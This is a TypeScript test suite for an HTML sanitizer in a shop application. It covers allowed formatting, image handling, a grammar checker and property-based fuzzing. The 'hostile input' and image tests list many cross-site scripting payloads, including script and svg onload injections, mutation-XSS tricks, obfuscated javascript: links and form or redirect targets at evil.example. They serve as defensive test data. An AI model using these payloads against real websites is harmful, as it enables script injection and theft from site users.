import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { ALLOWED_TAGS, picturesIn, safeHtml } from './safe-html.ts';

const ID = 'a'.repeat(32);
const OTHER = 'b'.repeat(32);
const picture = { id: ID, alt: 'Uma banca', width: 840, height: 640 };
const safe = (html: string): string => safeHtml(html, [picture]);

describe('formatted text', () => {
  test.each([
    '<h2>Trocas</h2><p>Em <strong>7 dias</strong>, <em>sem custo</em>.</p>',
    '<ul><li>um</li><li>dois<ol><li>três</li></ol></li></ul>',
    '<table><caption>Fretes</caption><thead><tr><th colspan="2" scope="col">Região</th></tr></thead><tbody><tr><td>Centro</td><td rowspan="2">R$ 9,90</td></tr></tbody></table>',
    '<details><summary>Posso?</summary><p>Pode.</p></details>',
    '<blockquote><p>A &lt;b&gt; &amp; c</p></blockquote><hr /><p>um<br />dois</p>',
    '<p><a href="/c/frutas">frutas</a> <a href="mailto:ana@exemplo.com.br">Ana</a></p>',
  ])('%s stays', (html) => {
    expect(safe(html)).toBe(html);
  });

  test.each([
    ['<h1>Título</h1><h6>Nota</h6>', '<h2>Título</h2><h4>Nota</h4>'],
    ['<b>a</b><i>b</i><del>c</del>', '<strong>a</strong><em>b</em><s>c</s>'],
    ['<div class="x"><span style="color:red">texto</span></div>', 'texto'],
    ['<p id="conteudo" class="fixed" onclick="x()">a</p>', '<p>a</p>'],
    ['<p>aberto<ul><li>um', '<p>aberto</p><ul><li>um</li></ul>'],
    [
      '<a href="https://exemplo.com.br" target="_blank" onclick="x()">site</a>',
      '<a href="https://exemplo.com.br/" target="_blank" rel="noopener noreferrer">site</a>',
    ],
    ['<a href="/pedidos" target="_top">pedidos</a>', '<a href="/pedidos">pedidos</a>'],
    ['<a href="javascript:alert(1)">clique</a>', 'clique'],
    ['<a name="x">âncora</a>', 'âncora'],
    ['<p><a href="javascript:x">a <b>b</b></a><em>c</em></p>', '<p>a <strong>b</strong><em>c</em></p>'],
    ['<li>a<a name="x"><li>b</li></a></li>', '<li>a</li><li>b</li>'],
    ['<p>a<span><p>b</p></span>c</p>', '<p>a</p><p>b</p>c<p></p>'],
    ['<td colspan="99999" style="position:fixed">a</td>', '<td>a</td>'],
  ])('%s becomes %s', (html, clean) => {
    expect(safe(html)).toBe(clean);
  });
});

describe('a picture', () => {
  const image = (alt: string) =>
    `<img src="/fotos/${ID}-960.webp" alt="${alt}" width="840" height="640" loading="lazy" />`;

  test.each([
    [`<img src="/fotos/${ID}" alt="Frutas">`, image('Frutas')],
    [`<img src="/fotos/${ID}-320.avif" alt="" onerror="x()" srcset="//evil.example/a 1x">`, image('')],
    [`<img src="/fotos/${ID}-960.webp">`, image('Uma banca')],
    [
      `<img alt='"><script>x()</script>' src="/fotos/${ID}">`,
      image('&quot;&gt;&lt;script&gt;x()&lt;/script&gt;'),
    ],
  ])('of the shop, %s, becomes %s', (html, clean) => {
    expect(safe(html)).toBe(clean);
  });

  test.each([
    `<img src="/fotos/${OTHER}-960.webp">`,
    '<img src="https://evil.example/a.png">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src=x onerror=alert(1)>',
    `<img src="//evil.example/fotos/${ID}-960.webp">`,
    `<img src="/fotos/${ID}-960.webp?x=1">`,
    `<picture><source srcset="https://evil.example/a"></picture>`,
  ])('%s of anybody else is removed', (html) => {
    expect(safe(`<p>a${html}b</p>`)).toBe('<p>ab</p>');
  });

  test('is looked up by the ids that the text names', () => {
    expect(
      picturesIn(`<img src="/fotos/${ID}-320.webp"><img src='/fotos/${OTHER}'><a href="/fotos/${ID}">`),
    ).toEqual([ID, OTHER]);
  });
});

/**
 * The grammar of what may be left: text without '<', and balanced tags of the list with quoted attributes. Every HTML parser reads
 * such text alike.
 */
function expectHarmless(html: string): void {
  const open: string[] = [];
  let rest = html;
  while (rest !== '') {
    const [token = '', closing, name = '', attributes = '', empty] =
      /^(?:[^<>]+|<(\/?)([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)( \/)?>)/.exec(rest) ?? [];
    expect(token, `in ${html}`).not.toBe('');
    rest = rest.slice(token.length);
    if (!token.startsWith('<')) continue;
    expect(ALLOWED_TAGS).toContain(name);
    if (closing === '/') expect(open.pop()).toBe(name);
    else if (empty === undefined) open.push(name);
    for (const [, attribute, value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g)) {
      expect(ATTRIBUTES[name]).toContain(attribute);
      if (attribute === 'href') expect(value).toMatch(/^(\/(?!\/)|https?:\/\/|mailto:|tel:)/);
      if (attribute === 'src') expect(value).toBe(`/fotos/${ID}-960.webp`);
    }
  }
  expect(open).toEqual([]);
}

const ATTRIBUTES: Readonly<Record<string, readonly string[]>> = {
  a: ['href', 'target', 'rel'],
  img: ['src', 'alt', 'width', 'height', 'loading'],
  td: ['colspan', 'rowspan'],
  th: ['colspan', 'rowspan', 'scope'],
};

describe('hostile input', () => {
  test.each([
    '<script>alert(1)</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<svg/onload=alert(1)><p>a</p>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<xmp><img src=x onerror=alert(1)></xmp><plaintext><b>',
    '<style>@import url(//evil.example)</style><link rel=stylesheet href=//evil.example>',
    '<base href="//evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe><object data="x"></object><embed src=x>',
    '<form action="//evil.example"><input name=senha><button formaction="//evil.example">x</button></form>',
    '<a href="java&#10;script:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a><a href=javascript&colon;alert(1)>z</a>',
    '<a href="//evil.example">x</a><a href="/\\evil.example">y</a><a href="/&#9;/evil.example">z</a>',
    '<p style="background:url(javascript:alert(1))" onmouseover=alert(1)>a</p>',
    '<img src="/fotos/x" onerror="alert(1)"><img/src="x"/onerror=alert(1)>',
    '<details ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>',
    '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]><?php ?>',
    '</p></div></main><footer>fim</footer>',
    '<p>\u0000a</p>\u2028<b\u0000>c',
    '<template><script>alert(1)</script></template><slot></slot><custom-el onclick=x>y</custom-el>',
    `${'<div>'.repeat(5_000)}fundo${'<p>'.repeat(200)}`,
    '<table><tr><td><table><a href="/x"><td><a href="/y"></table>',
    '<p title="a>b"><a href=\'/x"onclick="y\'>z</a>',
  ])('%# is harmless', (html) => {
    const clean = safe(html);
    expectHarmless(clean);
    expect(clean).not.toMatch(/alert\(1\)(?=.*>)|evil\.example(?=")/);
    expect(safe(clean)).toBe(clean);
  });

  const pieces = fc.constantFrom(
    ...[
      '<',
      '>',
      '/',
      '"',
      "'",
      '=',
      ' ',
      '\n',
      '\t',
      '&',
      ';',
      '&lt;',
      '&#60;',
      '&quot;',
      '\u0000',
      '-->',
      '<!--',
      '<![CDATA[',
    ],
    ...[
      'script',
      'style',
      'svg',
      'math',
      'p',
      'a',
      'img',
      'table',
      'td',
      'textarea',
      'noscript',
      'iframe',
      'template',
      'select',
    ],
    ...[
      '</p>',
      '</a>',
      '<a href="',
      '<img src="',
      '<p>',
      '</script>',
      '<svg>',
      '<style>',
      '<li>',
      '<summary>',
      '<th scope="col">',
    ],
    ...[
      ' href=',
      ' src=',
      ' onerror=',
      ' style=',
      'javascript:',
      'data:text/html,',
      '//evil.example',
      `/fotos/${ID}`,
      'x',
    ],
  );

  test('made of any pieces is harmless, and cleaning it again changes nothing', () => {
    const html = fc.oneof(
      { weight: 4, arbitrary: fc.array(pieces, { maxLength: 40 }).map((parts) => parts.join('')) },
      { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 200 }) },
    );
    fc.assert(
      fc.property(html, (text) => {
        const clean = safe(text);
        expectHarmless(clean);
        expect(safe(clean)).toBe(clean);
      }),
      { numRuns: 6_000 },
    );
  });
});
